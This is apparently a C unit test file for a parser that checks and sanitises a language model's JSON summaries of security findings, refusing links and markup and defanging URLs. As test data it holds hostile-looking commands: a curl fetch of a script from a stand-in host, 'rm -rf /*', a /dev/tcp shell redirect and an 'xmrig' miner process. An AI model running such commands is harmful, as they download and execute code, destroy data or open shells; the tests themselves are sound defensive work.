/*
 * answer: what is taken of a model's words, and the reasons for which they are not.
 */
#include "summarise/summarise.h"
#include "test.h"

#include <errno.h>

#define MARK   0xe123
#define MARKED "\xee\x84\xa3"
#define CLAIM  "{\"text\":\"It ran.\",\"fields\":[\"proc.name\"]}"

static struct arena arena;
static struct summarise_fact all[] = {
    { .id = { "proc.name", 9 }, .value = { "xmrig", 5 } },
    { .id = { "proc.cmdline", 12 },
      .value = { "curl http://203.0.113.7/x.sh www.evil.example", 45 } },
};
static const struct summarise_facts facts = { all, 2, false };

static int read_text(const char *text, struct summarise_answer *ret, struct err *err)
{
    arena_reset(&arena);
    *err = (struct err){ 0 };
    return summarise_read_answer(str_of(text), &facts, MARK, &arena, ret, err);
}

static struct summarise_answer taken(const char *text)
{
    struct summarise_answer answer = { 0 };
    struct err err;
    if (read_text(text, &answer, &err) < 0) {
        fail_msg("%s\nis not taken: %s", text, err.message);
    }
    return answer;
}

static void refused(const char *text, const char *why)
{
    struct summarise_answer answer = { 0 };
    struct err err;
    if (read_text(text, &answer, &err) == 0) {
        fail_msg("taken: %s", text);
    }
    if (!strstr(err.message, why)) {
        fail_msg("%s\nsays %s\nnot  %s", text, err.message, why);
    }
}

static const char *of(const char *summary)
{
    static char text[8192];
    snprintf(text, sizeof(text), "{\"summary\":\"%s\",\"claims\":[" CLAIM "],\"steps\":[]}",
             summary);
    return text;
}

static void test_whole(void **state)
{
    (void)state;
    struct summarise_answer a = taken(
        " {\"steps\":[\"Look.\",\"Ask.\"],\"claims\":[{\"fields\":[\"proc.name\",\"proc.cmdline\"],"
        "\"text\":\"It ran.\"}," CLAIM "],\"summary\":\"マイナーです。\"} ");
    assert_str(a.summary, "マイナーです。");
    assert_int_equal(a.nclaims, 2);
    assert_int_equal(a.claims[0].ncited, 2);
    assert_ptr_equal(a.claims[0].cited[1], &all[1]);
    assert_int_equal(a.nsteps, 2);
    assert_str(a.steps[1], "Ask.");
    struct buf buf;
    struct jsonw w = { .buf = &buf };
    buf_init(&buf, 4096);
    summarise_write_answer(&w, &a);
    assert_str(
        buf_str(&buf),
        "{\"summary\":\"マイナーです。\",\"claims\":[{\"text\":\"It ran.\",\"fields\":"
        "[{\"id\":\"proc.name\",\"value\":\"xmrig\"},{\"id\":\"proc.cmdline\",\"value\":"
        "\"curl http://203.0.113.7/x.sh www.evil.example\"}]},{\"text\":\"It ran.\",\"fields\":"
        "[{\"id\":\"proc.name\",\"value\":\"xmrig\"}]}],\"steps\":[\"Look.\",\"Ask.\"]}");
    buf_done(&buf);
}

static void test_fenced(void **state)
{
    (void)state;
    char text[1024];
    snprintf(text, sizeof(text), "```json\n%s\n```\n", of("A."));
    assert_str(taken(text).summary, "A.");
    snprintf(text, sizeof(text), "```%s```", of("B."));
    assert_str(taken(text).summary, "B.");
    snprintf(text, sizeof(text), "Here it is: %s", of("C."));
    refused(text, "no JSON");
}

static void test_plain(void **state)
{
    (void)state;
    assert_str(taken(of("a" MARKED "b" MARKED MARKED "c")).summary, "a b c");
    assert_str(taken(of(" a\\n\\tb\\u2028c ")).summary, "a b c");
    assert_str(taken(of("a\\u202eb\\u200bc\\u0007d\\ud800")).summary, "abcd\xef\xbf\xbd");
    assert_str(taken(of("**bold** `rm -rf /*`")).summary, "bold rm -rf /*");
    assert_str(taken(of("نمی\\u200cخواهم")).summary, "نمی\xe2\x80\x8cخواهم");
    assert_str(taken(of("a\\u200cb")).summary, "ab");
    assert_str(taken(of("cat <file >out; sh </dev/tcp/1")).summary,
               "cat <file >out; sh </dev/tcp/1");
    assert_str(taken(of("It fetched http://203.0.113.7/x.sh, then ran it.")).summary,
               "It fetched http[:]//203.0.113.7/x.sh, then ran it.");
    assert_str(taken(of("See www.evil.example.")).summary, "See www.evil.example.");
}

static void test_not_plain(void **state)
{
    (void)state;
    static const char *const marked[] = {
        "[click](x)", "![x]", "[a][b]", "<a href=x>", "</script>", "<IMG src=x>", "<br/>", "~~~",
    };
    static const char *const addresses[] = {
        "Go to https://evil.example/login now.",
        "http://203.0.113.7/y.sh",
        "http://203.0.113.7/x.sh?stolen=1",
        "javascript://x",
        "www.other.example",
    };
    for (size_t i = 0; i < ARRAY_SIZE(marked); i++) {
        refused(of(marked[i]), "not plain text");
    }
    for (size_t i = 0; i < ARRAY_SIZE(addresses); i++) {
        refused(of(addresses[i]), "address");
    }
}

static void test_form(void **state)
{
    (void)state;
    static const struct {
        const char *text, *why;
    } bad[] = {
        { "", "no JSON" },
        { "{", "no JSON" },
        { "{}x", "no JSON" },
        { "[]", "form" },
        { "\"x\"", "form" },
        { "{}", "summary is no text" },
        { "{\"summary\":1}", "summary is no text" },
        { "{\"summary\":\"\"}", "empty" },
        { "{\"summary\":\" \\u200b\"}", "empty" },
        { "{\"summary\":\"a\"}", "claims" },
        { "{\"summary\":\"a\",\"claims\":{},\"steps\":[]}", "claims" },
        { "{\"summary\":\"a\",\"claims\":[],\"steps\":[]}", "claims" },
        { "{\"summary\":\"a\",\"claims\":[1],\"steps\":[]}", "form" },
        { "{\"summary\":\"a\",\"claims\":[" CLAIM "]}", "steps" },
        { "{\"summary\":\"a\",\"claims\":[" CLAIM "],\"steps\":[1]}", "step" },
        { "{\"summary\":\"a\",\"claims\":[" CLAIM "],\"steps\":[],\"severity\":1}",
          "not asked for" },
        { "{\"summary\":\"a\",\"summary\":\"b\",\"claims\":[" CLAIM "],\"steps\":[]}", "twice" },
        { "{\"summary\":\"a\",\"claims\":[{\"text\":\"b\",\"fields\":[]}],\"steps\":[]}",
          "fields" },
        { "{\"summary\":\"a\",\"claims\":[{\"text\":\"b\"}],\"steps\":[]}", "fields" },
        { "{\"summary\":\"a\",\"claims\":[{\"text\":\"b\",\"fields\":[\"proc.nam\"]}],\"steps\":[]"
          "}",
          "cites `proc.nam`" },
        { "{\"summary\":\"a\",\"claims\":[{\"text\":\"b\",\"fields\":[7]}],\"steps\":[]}",
          "cites" },
        { "{\"summary\":\"a\",\"claims\":[{\"text\":\"b\",\"fields\":[\"x\"],\"status\":\"x\"}],"
          "\"steps\":[]}",
          "not asked for" },
    };
    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        refused(bad[i].text, bad[i].why);
    }
}

static void test_limits(void **state)
{
    (void)state;
    static char text[16384], many[16384];
    memset(text, 'a', SUMMARISE_SUMMARY_MAX);
    assert_int_equal(taken(of(text)).summary.n, SUMMARISE_SUMMARY_MAX);
    text[SUMMARISE_SUMMARY_MAX] = 'a';
    refused(of(text), "too long");
    for (unsigned n = SUMMARISE_CLAIMS_MAX; n <= SUMMARISE_CLAIMS_MAX + 1; n++) {
        size_t at = (size_t)snprintf(many, sizeof(many), "{\"summary\":\"a\",\"claims\":[");
        for (unsigned i = 0; i < n; i++) {
            at += (size_t)snprintf(many + at, sizeof(many) - at, "%s" CLAIM, i ? "," : "");
        }
        snprintf(many + at, sizeof(many) - at, "],\"steps\":[]}");
        if (n == SUMMARISE_CLAIMS_MAX) {
            assert_int_equal(taken(many).nclaims, n);
        } else {
            refused(many, "claims");
        }
    }
    for (unsigned n = SUMMARISE_STEPS_MAX; n <= SUMMARISE_STEPS_MAX + 1; n++) {
        size_t at = (size_t)snprintf(many, sizeof(many),
                                     "{\"summary\":\"a\",\"claims\":[" CLAIM "],\"steps\":[");
        for (unsigned i = 0; i < n; i++) {
            at += (size_t)snprintf(many + at, sizeof(many) - at, "%s\"s\"", i ? "," : "");
        }
        snprintf(many + at, sizeof(many) - at, "]}");
        if (n == SUMMARISE_STEPS_MAX) {
            assert_int_equal(taken(many).nsteps, n);
        } else {
            refused(many, "steps");
        }
    }
}

static void test_no_memory(void **state)
{
    (void)state;
    for (size_t budget = 0; budget < 8000; budget += 100) {
        struct arena small;
        struct summarise_answer answer;
        struct err err = { 0 };
        arena_init(&small, budget);
        int r = summarise_read_answer(str_of(of("see http://203.0.113.7/x.sh")), &facts, MARK,
                                      &small, &answer, &err);
        assert_true(r == 0 || err.message[0]);
        arena_done(&small);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_whole),     cmocka_unit_test(test_fenced),
        cmocka_unit_test(test_plain),     cmocka_unit_test(test_not_plain),
        cmocka_unit_test(test_form),      cmocka_unit_test(test_limits),
        cmocka_unit_test(test_no_memory),
    };
    arena_init(&arena, (size_t)4 << 20);
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    arena_done(&arena);
    return failed;
}
